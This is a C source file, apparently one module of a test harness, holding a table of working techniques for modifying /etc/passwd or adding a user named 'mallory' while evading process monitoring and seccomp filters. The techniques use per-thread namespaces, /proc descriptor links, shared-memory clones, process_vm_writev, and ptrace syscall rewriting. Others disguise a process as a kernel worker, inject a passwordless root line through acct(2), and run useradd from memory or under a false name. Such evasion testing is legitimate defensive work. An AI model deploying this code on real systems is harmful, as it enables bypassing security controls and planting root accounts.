/* Processes and threads that are not what they seem: whose memory, whose root, whose descriptors, which program. */
#define _GNU_SOURCE
#include "techniques.h"

#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

static int from_thread(void *(*body)(void *))
{
    pthread_t thread;
    void *result;
    if (pthread_create(&thread, NULL, body, NULL) != 0 || pthread_join(thread, &result) != 0)
        die("thread");
    return (int)(intptr_t)result;
}

static void *in_its_own_folder(void *unused)
{
    (void)unused;
    if (unshare(CLONE_FS) < 0 || chdir("/etc") < 0)
        die("folder of the thread");
    return (void *)(intptr_t)append_to("passwd");
}

static int thread_with_own_folder(void) { return from_thread(in_its_own_folder); }

static void *in_its_own_root(void *unused)
{
    (void)unused;
    if (unshare(CLONE_FS) < 0)
        die("unshare");
    if (chroot("/etc") < 0 || chdir("/") < 0)
        return (void *)(intptr_t)errno;
    return (void *)(intptr_t)append_to("/passwd");
}

static int thread_with_own_root(void) { return from_thread(in_its_own_root); }

/* Number 100 is /etc in this thread, and the folder of work in the process. */
static void *with_its_own_descriptors(void *unused)
{
    (void)unused;
    if (unshare(CLONE_FILES) < 0 || dup2(must_open("/etc", O_PATH), 100) < 0)
        die("descriptors of the thread");
    return (void *)(intptr_t)append_line(openat(100, "passwd", O_WRONLY | O_APPEND));
}

static int thread_with_own_descriptors(void)
{
    make_changed_copy("/etc/hosts", WORK "/passwd");
    if (dup2(must_open(WORK, O_PATH), 100) < 0)
        die("dup2");
    return from_thread(with_its_own_descriptors);
}

static void *by_its_own_link(void *unused)
{
    (void)unused;
    if (unshare(CLONE_FILES) < 0 || dup2(must_open(PASSWD, O_PATH), 100) < 0)
        die("descriptors of the thread");
    return (void *)(intptr_t)append_to("/proc/thread-self/fd/100");
}

static int thread_with_own_link(void)
{
    if (dup2(must_open("/dev/null", O_PATH), 100) < 0)
        die("dup2");
    return from_thread(by_its_own_link);
}

static pid_t thread_id;

static void *hold_the_database(void *unused)
{
    (void)unused;
    if (unshare(CLONE_FILES) < 0 || dup2(must_open(PASSWD, O_PATH), 100) < 0)
        die("descriptors of the thread");
    __atomic_store_n(&thread_id, (pid_t)syscall(SYS_gettid), __ATOMIC_RELEASE);
    pause();
    return NULL;
}

/* /proc/TID is there for every thread, though no listing shows it. */
static int descriptor_link_of_thread(void)
{
    char path[64];
    pthread_t thread;
    if (pthread_create(&thread, NULL, hold_the_database, NULL) != 0)
        die("thread");
    while (!__atomic_load_n(&thread_id, __ATOMIC_ACQUIRE))
        usleep(1000);
    snprintf(path, sizeof path, "/proc/%d/fd/100", thread_id);
    return append_to(path);
}

static int from_dead_leader[2];

static void *outlive_the_leader(void *unused)
{
    (void)unused;
    usleep(100000);
    int result = append_to("passwd");
    if (write(from_dead_leader[1], &result, sizeof result) < 0)
        die("tell the result");
    _exit(0);
}

/* pthread_exit(3) of the first thread: what /proc/PID says of the process is gone, its other threads go on. */
static int dead_leader(void)
{
    int result = 202;
    if (pipe(from_dead_leader) < 0)
        die("pipe");
    pid_t child = must_fork();
    if (child == 0) {
        pthread_t thread;
        if (chdir("/etc") < 0 || pthread_create(&thread, NULL, outlive_the_leader, NULL) != 0)
            die("thread");
        pthread_exit(NULL);
    }
    close(from_dead_leader[1]);
    if (read(from_dead_leader[0], &result, sizeof result) < 0)
        die("read the result");
    status_of(child);
    return result;
}

/* prctl(2), PR_SET_DUMPABLE: the files in /proc/PID belong to root then, and only root may look into the process. */
static int not_dumpable(void)
{
    if (prctl(PR_SET_DUMPABLE, 0) < 0)
        die("not dumpable");
    return append_to("/proc/self/cwd/etc/passwd");
}

static int descriptor_link_of_process(void)
{
    char path[64], byte = 0;
    int fds[2], fd = must_open(PASSWD, O_RDONLY);
    if (pipe(fds) < 0)
        die("pipe");
    pid_t child = must_fork();
    if (child == 0) {
        close(fds[1]);
        _exit(read(fds[0], &byte, 1) < 0);
    }
    snprintf(path, sizeof path, "/proc/%d/task/%d/fd/%d", child, child, fd);
    close(fd);
    int result = append_to(path);
    close(fds[0]);
    close(fds[1]);
    status_of(child);
    return result;
}

static char stack[65536] __attribute__((aligned(16)));

static int write_and_end(void *unused)
{
    (void)unused;
    _exit(append_to(PASSWD));
}

static int cloned(int flags)
{
    pid_t child = clone(write_and_end, stack + sizeof stack, flags | SIGCHLD, NULL);
    if (child < 0)
        die("clone");
    return status_of(child);
}

static int shared_memory_child(void) { return cloned(CLONE_VM); }
static int vfork_child(void) { return cloned(CLONE_VM | CLONE_VFORK); }
static int shared_everything_child(void) { return cloned(CLONE_VM | CLONE_FS | CLONE_FILES); }

/* A child of a child, whose parent has ended. */
static int orphan(void)
{
    int fds[2], result = 202;
    if (pipe(fds) < 0)
        die("pipe");
    pid_t child = must_fork();
    if (child == 0) {
        if (must_fork() != 0)
            _exit(0);
        setsid();
        prctl(PR_SET_NAME, "kworker/0:1");
        usleep(50000);
        result = append_to(PASSWD);
        if (write(fds[1], &result, sizeof result) < 0)
            _exit(1);
        _exit(0);
    }
    status_of(child);
    if (read(fds[0], &result, sizeof result) < 0)
        die("read");
    return result;
}

/* The path in the other process is harmless until its memory is written to from here. */
static int memory_of_process(void)
{
    char *path = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    int fds[2];
    char byte = 0;
    if (path == MAP_FAILED || pipe(fds) < 0)
        die("memory");
    strcpy(path, "/dev/null");
    pid_t child = must_fork();
    if (child == 0) {
        if (read(fds[0], &byte, 1) < 0)
            _exit(201);
        _exit(append_to(path));
    }
    struct iovec here = { PASSWD, sizeof PASSWD }, there = { path, sizeof PASSWD };
    if (process_vm_writev(child, &here, 1, &there, 1, 0) < 0)
        die("process_vm_writev");
    if (write(fds[1], &byte, 1) < 0)
        die("write");
    return status_of(child);
}

/* A child that stops, traced, and asks for its pid again and again. */
static pid_t traced_child(void)
{
    pid_t child = must_fork();
    if (child == 0) {
        if (ptrace(PTRACE_TRACEME, 0, NULL, NULL) < 0)
            die("traceme");
        raise(SIGSTOP);
        for (;;)
            syscall(SYS_getppid);
    }
    int status;
    if (waitpid(child, &status, 0) < 0 || !WIFSTOPPED(status))
        die("traced child");
    return child;
}

static void run_to_next_stop(pid_t child)
{
    int status;
    if (ptrace(PTRACE_SYSCALL, child, NULL, NULL) < 0 || waitpid(child, &status, 0) < 0 || !WIFSTOPPED(status))
        die("trace");
}

/* Has the child, at the entry of a harmless call, make another one; gives that one's result. */
static long instead(pid_t child, long number, long a, long b, long c)
{
    struct user_regs_struct registers;
    run_to_next_stop(child);
    if (ptrace(PTRACE_GETREGS, child, NULL, &registers) < 0)
        die("registers");
    registers.orig_rax = (unsigned long)number;
    registers.rdi = (unsigned long)a;
    registers.rsi = (unsigned long)b;
    registers.rdx = (unsigned long)c;
    if (ptrace(PTRACE_SETREGS, child, NULL, &registers) < 0)
        die("registers");
    run_to_next_stop(child);
    if (ptrace(PTRACE_GETREGS, child, NULL, &registers) < 0)
        die("registers");
    return (long)registers.rax;
}

static int end_traced(pid_t child, long result)
{
    kill(child, SIGKILL);
    waitpid(child, NULL, 0);
    return result < 0 ? (int)-result : 0;
}

/* seccomp(2): the filter runs after the tracer has changed the call. */
static int traced(void)
{
    pid_t child = traced_child();
    long fd = instead(child, SYS_open, (long)PASSWD, O_WRONLY | O_APPEND, 0);
    if (fd >= 0)
        fd = instead(child, SYS_write, fd, (long)LINE, (long)strlen(LINE));
    return end_traced(child, fd);
}

/* ptrace(2), PTRACE_O_SUSPEND_SECCOMP: only for tracers without a filter. */
static int suspended_filter(void)
{
    pid_t child = traced_child();
    if (ptrace(PTRACE_SETOPTIONS, child, NULL, PTRACE_O_SUSPEND_SECCOMP) < 0)
        fprintf(stderr, "evasion: the filter stays: %s\n", strerror(errno));
    long fd = instead(child, SYS_open, (long)PASSWD, O_WRONLY | O_APPEND, 0);
    if (fd >= 0)
        fd = instead(child, SYS_write, fd, (long)LINE, (long)strlen(LINE));
    return end_traced(child, fd);
}

/* acct(2): the kernel itself writes a record when a process ends, and the process chooses 15 bytes of it. */
static int accounting(void)
{
    if (syscall(SYS_acct, PASSWD) < 0)
        return errno;
    pid_t child = must_fork();
    if (child == 0) {
        prctl(PR_SET_NAME, "\nm::0:0:::\n");
        _exit(0);
    }
    status_of(child);
    return outcome(syscall(SYS_acct, NULL));
}

static void copy_program(const char *from, int to)
{
    char bytes[65536];
    ssize_t length;
    int source = must_open(from, O_RDONLY);
    while ((length = read(source, bytes, sizeof bytes)) > 0)
        if (write(to, bytes, (size_t)length) != length)
            die("copy a program");
    close(source);
}

static char *const no_environment[] = { "PATH=/usr/sbin:/usr/bin:/sbin:/bin", NULL };

static int run_program(int fd, const char *path, char *const words[])
{
    pid_t child = must_fork();
    if (child == 0) {
        if (fd >= 0)
            syscall(SYS_execveat, fd, "", words, no_environment, AT_EMPTY_PATH);
        else
            execve(path, words, no_environment);
        _exit(errno);
    }
    return status_of(child);
}

static int program_in_memory(void)
{
    int fd = memfd_create("cache", 0);
    if (fd < 0)
        die("memfd_create");
    copy_program("/usr/sbin/useradd", fd);
    return run_program(fd, NULL, (char *const[]){ "cache", "mallory", NULL });
}

static int program_under_other_name(void)
{
    int fd = open(WORK "/cache", O_WRONLY | O_CREAT | O_TRUNC, 0755);
    if (fd < 0)
        die(WORK "/cache");
    copy_program("/usr/sbin/useradd", fd);
    close(fd);
    return run_program(-1, WORK "/cache", (char *const[]){ "cache", "mallory", NULL });
}

/* In the small root file system one program is all account tools of busybox: it goes by its name. */
static int applet_by_hard_link(void)
{
    must_make_folder("/opt/applets");
    if (link("/opt/busybox/busybox", "/opt/applets/adduser") < 0)
        die("link the applet");
    return run_program(-1, "/opt/applets/adduser", (char *const[]){ "adduser", "-D", "mallory", NULL });
}

const struct technique process_techniques[] = {
    { "thread-with-own-folder", thread_with_own_folder },
    { "thread-with-own-root", thread_with_own_root },
    { "thread-with-own-descriptors", thread_with_own_descriptors },
    { "thread-with-own-link", thread_with_own_link },
    { "proc-tid-fd", descriptor_link_of_thread },
    { "dead-leader", dead_leader },
    { "not-dumpable", not_dumpable },
    { "proc-pid-task-fd", descriptor_link_of_process },
    { "clone-vm", shared_memory_child },
    { "clone-vm-vfork", vfork_child },
    { "clone-vm-fs-files", shared_everything_child },
    { "orphan", orphan },
    { "memory-of-process", memory_of_process },
    { "ptrace", traced },
    { "ptrace-suspend-seccomp", suspended_filter },
    { "process-accounting", accounting },
    { "memfd-of-useradd", program_in_memory },
    { "copy-of-useradd", program_under_other_name },
    { "busybox-by-hard-link", applet_by_hard_link },
    { NULL, NULL },
};
